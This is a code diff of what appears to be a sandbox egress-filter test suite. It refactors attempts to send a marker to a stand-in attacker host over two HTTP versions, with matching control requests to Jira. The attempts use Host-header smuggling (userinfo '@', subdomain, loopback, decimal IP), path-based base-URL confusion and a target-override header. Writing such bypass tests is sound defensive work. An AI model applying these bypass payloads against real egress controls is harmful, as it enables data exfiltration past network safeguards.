@@ -1,38 +1,44 @@
 import type { Attempt, Brief, InsideRow } from '../brief.js'
 import { attempt, inTurn, type ForwardResult } from './lib/attempt.mjs'
-import { exchange, get, openTcp, openTls, openTunnel } from './lib/http.mjs'
-import { askJira } from './lib/controls.mjs'
+import { exchange, openTcp, openTunnel } from './lib/http.mjs'
+import { HTTP1, overBoth, secure, type HttpRequest, type HttpVersion } from './lib/http-versions.mjs'
+import { askJiraOver } from './lib/controls.mjs'
 
 export const rows: Readonly<Record<string, InsideRow>> = {
-  'exfil-transparent': { attack: throughTransparentListener, control: askJira },
-  'exfil-explicit': { attack: throughExplicitProxy, control: askThroughProxy },
-  'exfil-routes': { attack: throughBaseUrls, control: askThroughBaseUrls },
+  ...overBoth((version) => ({
+    'exfil-transparent': { attack: throughTransparentListener(version), control: askJiraOver(version) },
+    'exfil-routes': { attack: throughBaseUrls(version), control: askThroughBaseUrls(version) },
+  })),
+  'exfil-explicit': { attack: throughExplicitProxy, control: askThroughProxy(HTTP1) },
 }
 
-async function throughTransparentListener(
-  { listeners, names, attacker }: Brief,
-  marker: string,
-): Promise<Attempt[]> {
-  const hosts = [
-    names.attacker,
-    `${names.attacker}.`,
-    `${names.attacker}:${attacker.port}`,
-    `${names.jira}.${names.attacker}`,
-    `${names.jira}@${names.attacker}`,
-    `127.0.0.1:${attacker.port}`,
-    `[::1]:${attacker.port}`,
-    '2130706433',
-  ]
-  const plain = async (host: string): Promise<ForwardResult> =>
-    exchange(await openTcp(listeners.http), post(host, `/?q=${marker}`, marker))
-  const secured = async (host: string): Promise<ForwardResult> => {
-    const name = host.replace(/:\d+$/, '')
-    return exchange(await openTls(await openTcp(listeners.https), name), post(host, `/?q=${marker}`, marker))
+function throughTransparentListener(version: HttpVersion): InsideRow['attack'] {
+  return ({ listeners, names, attacker }, marker) => {
+    const hosts = [
+      names.attacker,
+      `${names.attacker}.`,
+      `${names.attacker}:${attacker.port}`,
+      `${names.jira}.${names.attacker}`,
+      `${names.jira}@${names.attacker}`,
+      `127.0.0.1:${attacker.port}`,
+      `[::1]:${attacker.port}`,
+      '2130706433',
+    ]
+    const plain = async (host: string): Promise<ForwardResult> =>
+      version.ask(await openTcp(listeners.http), upload(host, marker))
+    const secured = async (host: string): Promise<ForwardResult> => {
+      const name = host.replace(/:\d+$/, '')
+      return version.ask(await secure(await openTcp(listeners.https), name, version), upload(host, marker))
+    }
+    return inTurn([
+      ...hosts.map((host) => () => attempt(`http, Host: ${host}`, () => plain(host))),
+      ...hosts.map((host) => () => attempt(`https to ${host}`, () => secured(host))),
+    ])
   }
-  return inTurn([
-    ...hosts.map((host) => () => attempt(`http, Host: ${host}`, () => plain(host))),
-    ...hosts.map((host) => () => attempt(`https to ${host}`, () => secured(host))),
-  ])
+}
+
+function upload(host: string, marker: string): HttpRequest {
+  return { host, path: `/?q=${marker}`, method: 'POST', body: marker }
 }
 
 async function throughExplicitProxy(
@@ -71,46 +77,47 @@ async function throughExplicitProxy(
   ])
 }
 
-async function throughBaseUrls({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
-  const requests: [path: string, ...extra: string[]][] = [
-    ['/attacker/'],
-    [`/${names.attacker}/`],
-    [`/https://${names.attacker}/`],
-    [`//${names.attacker}/`],
-    [`/jira@${names.attacker}/rest/api/2/myself`],
-    [`/jira/rest/api/2/myself`, `X-Sandbox-Target: https://${names.attacker}`],
-    [`http://${names.attacker}/`],
-  ]
-  return inTurn(
-    requests.map(
-      ([path, ...extra]) =>
-        () =>
-          attempt([`GET ${path}`, ...extra].join(', '), async () =>
-            exchange(await openTcp(listeners.reverse), get('egress:9199', `${path}?q=${marker}`, extra)),
-          ),
-    ),
-  )
+function throughBaseUrls(version: HttpVersion): InsideRow['attack'] {
+  return ({ listeners, names }, marker) => {
+    const requests: [path: string, headers?: Record<string, string>, host?: string][] = [
+      ['/attacker/'],
+      [`/${names.attacker}/`],
+      [`/https://${names.attacker}/`],
+      [`//${names.attacker}/`],
+      [`/jira@${names.attacker}/rest/api/2/myself`],
+      [`/jira/rest/api/2/myself`, { 'x-sandbox-target': `https://${names.attacker}` }],
+      [`http://${names.attacker}/`],
+      ['/', {}, names.attacker],
+    ]
+    return inTurn(
+      requests.map(
+        ([path, headers = {}, host = 'egress:9199']) =>
+          () =>
+            attempt([`GET ${path} at ${host}`, ...Object.keys(headers)].join(', '), async () =>
+              version.ask(await openTcp(listeners.reverse), { host, path: `${path}?q=${marker}`, headers }),
+            ),
+      ),
+    )
+  }
 }
 
-async function askThroughProxy({ listeners, names }: Brief, marker: string): Promise<Attempt[]> {
-  return [
+export function askThroughProxy(version: HttpVersion): InsideRow['control'] {
+  return async ({ listeners, names }, marker) => [
     await attempt('CONNECT to Jira', async () => {
       const tunnel = await openTunnel(listeners.proxy, `${names.jira}:443`)
-      return exchange(
-        await openTls(tunnel, names.jira),
-        get(names.jira, `/rest/api/2/myself?control=${marker}`),
-      )
+      const request = { host: names.jira, path: `/rest/api/2/myself?control=${marker}` }
+      return version.ask(await secure(tunnel, names.jira, version), request)
     }),
   ]
 }
 
-async function askThroughBaseUrls({ listeners }: Brief, marker: string): Promise<Attempt[]> {
-  return [
+function askThroughBaseUrls(version: HttpVersion): InsideRow['control'] {
+  return async ({ listeners }, marker) => [
     await attempt('GET /jira/rest/api/2/myself', async () =>
-      exchange(
-        await openTcp(listeners.reverse),
-        get('egress:9199', `/jira/rest/api/2/myself?control=${marker}`),
-      ),
+      version.ask(await openTcp(listeners.reverse), {
+        host: 'egress:9199',
+        path: `/jira/rest/api/2/myself?control=${marker}`,
+      }),
     ),
   ]
 }
